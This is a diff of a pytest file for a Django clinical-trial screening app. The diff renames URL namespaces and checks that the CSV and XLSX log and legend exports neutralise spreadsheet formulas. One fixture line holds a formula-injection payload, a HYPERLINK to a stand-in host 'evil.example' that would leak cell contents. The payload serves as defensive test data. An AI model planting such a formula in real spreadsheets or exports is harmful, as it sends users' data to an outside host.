@@ -10,7 +10,7 @@ import pytest
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from screening import exports
+from review import exports
 from screening.models import CriterionOutcome
 from trials.models import Criterion
 from trials.services import criteria_version_create_amendment
@@ -20,7 +20,7 @@ INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open chart")'
 REASON = "Moving to Dayton with her daughter Jane Roe on 2026-05-01"  # the kind of thing a coordinator types
 
 
-def csv_rows(client, name="screening:log_export_csv", **params):
+def csv_rows(client, name="review:log_export_csv", **params):
     response = client.get(reverse(name), params)
     assert response.status_code == 200
     return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
@@ -32,7 +32,7 @@ def csv_records(client, **params):
 
 
 def xlsx_workbook(client, **params):
-    response = client.get(reverse("screening:log_export_xlsx"), params)
+    response = client.get(reverse("review:log_export_xlsx"), params)
     assert response.status_code == 200
     return load_workbook(io.BytesIO(b"".join(response.streaming_content)))
 
@@ -119,17 +119,17 @@ def test_the_legend_csv_is_a_download_of_its_own_linked_from_the_log(
 ):
     screening_for()
     client = client_for(investigator)
-    response = client.get(reverse("screening:log_legend_csv"))
+    response = client.get(reverse("review:log_legend_csv"))
     assert response["Content-Type"].startswith("text/csv")
     assert "criteria-legend" in response["Content-Disposition"]
     header, *rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert header == ["criteria_version", "code", "kind", "text", "summary"]
     expected = Criterion.objects.filter(version=active_version).order_by("order").values_list("code", "text")
     assert [(row[1], row[3]) for row in rows] == [(code, exports.neutralised(text)) for code, text in expected]
-    page = client.get(reverse("screening:log"), {"cohort": "phase1"}).content.decode()
-    assert f'href="{reverse("screening:log_legend_csv")}?cohort=phase1"' in page
+    page = client.get(reverse("review:log"), {"cohort": "phase1"}).content.decode()
+    assert f'href="{reverse("review:log_legend_csv")}?cohort=phase1"' in page
     # The legend follows the filters: no screening, no criteria version, no rows.
-    assert csv_rows(client, "screening:log_legend_csv", date_from="2099-01-01") == [header]
+    assert csv_rows(client, "review:log_legend_csv", date_from="2099-01-01") == [header]
 
 
 def test_an_ineligible_screening_says_which_criteria_failed_and_an_incomplete_one_what_is_missing(
@@ -210,5 +210,5 @@ def test_the_legend_is_neutralised_too(client_for, investigator, active_version,
     assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
     assert not [cell.value for cell in cells if str(cell.value).startswith(FORMULA_STARTS)]
     assert {row["criteria_version"] for row in sheet_records(legend)} == {"'" + INJECTION}
-    rows = csv_rows(client_for(investigator), "screening:log_legend_csv")
+    rows = csv_rows(client_for(investigator), "review:log_legend_csv")
     assert {row[0] for row in rows[1:]} == {"'" + INJECTION}
